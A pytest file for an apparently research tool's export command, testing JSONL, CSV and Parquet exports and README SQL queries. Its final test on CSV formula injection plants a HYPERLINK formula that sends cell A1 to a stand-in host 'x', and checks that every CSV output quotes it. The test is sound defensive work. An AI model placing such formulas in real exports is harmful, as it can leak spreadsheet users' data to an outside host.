"""`rstar export` on the jobs the previous release wrote (migrated): problem rows and trajectories
as JSONL, CSV and Parquet; the Parquet file reads back with pyarrow into the rows of the JSONL."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from cli.main import app
from db import migrate
from rstar.reports import judge
from workers.settings import get_settings

RELEASE = Path(__file__).resolve().parent / "data" / "previous_release"


def _migrated_copy(tmp_path: Path) -> str:
    """The release's jobs.sqlite, copied and upgraded to head."""
    path = tmp_path / "jobs.sqlite"
    shutil.copy(RELEASE / "jobs.sqlite", path)
    url = f"sqlite:///{path}"
    migrate.upgrade(url)
    return url


@pytest.fixture
def jobs_db(tmp_path: Path, settings_env: pytest.MonkeyPatch) -> str:
    url = _migrated_copy(tmp_path)
    settings_env.setenv("RSTAR_DATABASE_URL", url)
    get_settings.cache_clear()
    return url


def _export(*args: str) -> str:
    result = CliRunner().invoke(app, ["export", *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def _jsonl(text: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in text.splitlines()]


def test_problem_rows_match_the_results_in_every_format(jobs_db: str, tmp_path: Path) -> None:
    rows = _jsonl(_export("3"))  # mutual, 3 rounds: 5 of 6 right
    golden = [
        json.loads(x)
        for x in (RELEASE / "golden" / "results-3-mutual-3-rounds.jsonl").read_text().splitlines()
    ]
    assert [(r["item_id"], r["answer"], r["correct"], r["model_calls"]) for r in rows] == [
        (g["id"], g["final_answer"], g["correct"], g["model_calls"]) for g in golden
    ]
    assert all(r["strategy"] == "mutual" and r["model"] in ("A", "B") for r in rows)
    parquet = tmp_path / "p.parquet"
    _export("3", "--format", "parquet", "-o", str(parquet))
    assert pq.read_table(parquet).to_pylist() == rows
    with (tmp_path / "p.csv").open("w") as f:
        f.write(_export("3", "--format", "csv"))
    with (tmp_path / "p.csv").open() as f:
        assert [r["item_id"] for r in csv.DictReader(f)] == [r["item_id"] for r in rows]


def test_trajectories_round_trip_and_the_verified_ones_are_right(jobs_db: str, tmp_path: Path) -> None:
    rows = _jsonl(_export("4", "--trajectories"))  # mutual-consistency
    parquet = tmp_path / "t.parquet"
    _export("4", "--trajectories", "--format", "parquet", "-o", str(parquet))
    assert pq.read_table(parquet).to_pylist() == rows
    # One row per solution and completion, each problem's selected one marked once.
    assert {r["kind"] for r in rows} == {"generate", "complete"}
    by_item: dict[object, list[dict[str, object]]] = {}
    for r in rows:
        by_item.setdefault(r["item_id"], []).append(r)
    assert all(sum(1 for r in rs if r["selected"]) == 1 for rs in by_item.values())
    # Mutual consistency: said of generated solutions only, and true where a completion agrees.
    assert all(r["mutually_consistent"] is None for r in rows if r["kind"] == "complete")
    assert any(r["mutually_consistent"] is True for r in rows)
    assert any(r["mutually_consistent"] is False for r in rows)
    assert all(str(r["text"]).endswith(f"Final answer: {r['answer']}") for r in rows if r["answer"])
    verified = _jsonl(_export("4", "--trajectories", "--verified-only"))
    assert verified == [r for r in rows if r["correct"]] and 0 < len(verified) < len(rows)


def test_bad_requests_are_refused(jobs_db: str) -> None:
    runner = CliRunner()
    for args, says in [
        (["999"], "no job 999"),
        (["3", "--format", "xml"], "--format must be one of"),
        (["3", "--format", "parquet"], "pass -o FILE"),
        (["3", "--verified-only"], "applies to --trajectories"),
    ]:
        result = runner.invoke(app, ["export", *args])
        assert result.exit_code == 2 and says in result.stderr, (args, result.stderr)


def _readme_queries() -> list[str]:
    text = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    block = text.split("```sql\n", 1)[1].split("```", 1)[0]
    return [q.strip() for q in block.split(";") if q.strip()]


@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
def test_the_readme_sql_queries_run_on_the_views(
    backend: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    """The README's four queries, as written, on SQLite and PostgreSQL; the first one's counts are
    the calls the release recorded (tests/data/previous_release/golden/jobs.json), and the accuracy
    in SQL is what `rstar results` judges."""
    import sqlalchemy as sa

    if backend == "sqlite":
        url = _migrated_copy(tmp_path)
    else:
        from tests.test_migration_0003 import copy_rows

        url = request.getfixturevalue("postgres_url")
        migrate.upgrade(url, "0002")
        copy_rows(f"sqlite:///{RELEASE / 'jobs.sqlite'}", url)
        migrate.upgrade(url)
    queries = _readme_queries()
    assert len(queries) == 4
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        per_model, chosen, accuracy, unparsed = (conn.execute(sa.text(q)).all() for q in queries)
        problems = conn.execute(
            sa.text("SELECT job_id, status, final_answer, reference_answer FROM problems")
        ).all()
    engine.dispose()
    judged: dict[int, list[bool]] = {}
    for job_id, status, answer, ref in problems:
        if status == "answered" and ref is not None:
            judged.setdefault(job_id, []).append(judge(status, answer, ref))
    assert {j: (round(float(a), 6), n) for j, a, n in accuracy} == {
        j: (round(sum(v) / len(v), 6), len(v)) for j, v in judged.items()
    }
    assert any(0 < float(a) < 1 for _, a, _ in accuracy)
    jobs = json.loads((RELEASE / "golden" / "jobs.json").read_text())
    calls = {j["id"]: sum(j["model_calls"].values()) for j in jobs}
    totals: dict[int, int] = {}
    for job_id, _model, n, _failed, _tokens in per_model:
        totals[job_id] = totals.get(job_id, 0) + n
    assert totals == calls
    assert sum(f for *_, f, _ in per_model) == sum(j["model_calls"].get("permanent_error", 0) for j in jobs)
    answered = {j["id"]: sum(1 for s in j["problems"].values() if s == "answered") for j in jobs}
    by_job: dict[int, int] = {}
    for job_id, model, n in chosen:
        assert model in ("A", "B")
        by_job[job_id] = by_job.get(job_id, 0) + n
    assert by_job == answered
    assert all(n > 0 and model in ("A", "B") for model, _kind, n in unparsed)


HOSTILE_ID = '=HYPERLINK("http://x/?"&A1,"42")'


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(jobs_db: str, tmp_path: Path) -> None:
    """A problem id and a model's answer that a spreadsheet would take for formulas (OWASP's CSV
    injection) are quoted in every CSV (results, export, trajectories, report); a negative number
    is not; JSONL and Parquet keep them as they are."""
    from sqlalchemy import create_engine, text

    engine = create_engine(jobs_db)
    with engine.begin() as conn:
        pid = conn.execute(text("SELECT min(id) FROM problems WHERE job_id = 3")).scalar_one()
        conn.execute(
            text(
                "UPDATE problems SET item_id = :i, final_answer = '=1+1', reference_answer = '-5'"
                " WHERE id = :p"
            ),
            {"i": HOSTILE_ID, "p": pid},
        )
        conn.execute(text("UPDATE outputs SET answer = '@SUM(A1:A9)' WHERE problem_id = :p"), {"p": pid})
    engine.dispose()

    def csv_rows(*args: str) -> list[dict[str, str]]:
        out = tmp_path / "out.csv"
        result = CliRunner().invoke(app, [*args, "-o", str(out)])
        assert result.exit_code == 0, result.output
        with out.open(newline="") as f:
            return list(csv.DictReader(f))

    for rows, id_field, answer_field in (
        (csv_rows("results", "3", "--format", "csv"), "id", "final_answer"),
        (csv_rows("export", "3", "--format", "csv"), "item_id", "answer"),
    ):
        hostile = next(r for r in rows if r[id_field].endswith(HOSTILE_ID))
        assert hostile[id_field] == "'" + HOSTILE_ID and hostile[answer_field] == "'=1+1"
        assert hostile["reference_answer" if id_field == "id" else "reference"] == "-5"
    paths = csv_rows("export", "3", "--format", "csv", "--trajectories")
    assert {r["answer"] for r in paths if r["item_id"] == "'" + HOSTILE_ID} == {"'@SUM(A1:A9)"}
    report = CliRunner().invoke(app, ["report", "3", "-o", str(tmp_path / "report")])
    assert report.exit_code == 0, report.output
    with (tmp_path / "report" / "problems.csv").open(newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["item_id"].endswith(HOSTILE_ID))
    assert (row["item_id"], row["final_answer"], row["reference_answer"]) == ("'" + HOSTILE_ID, "'=1+1", "-5")
    # JSONL and Parquet are data, not spreadsheets: as stored.
    record = next(r for r in _jsonl(_export("3")) if r["item_id"] == HOSTILE_ID)
    assert record["answer"] == "=1+1"
    parquet = tmp_path / "p.parquet"
    _export("3", "--format", "parquet", "-o", str(parquet))
    assert HOSTILE_ID in [r["item_id"] for r in pq.read_table(parquet).to_pylist()]
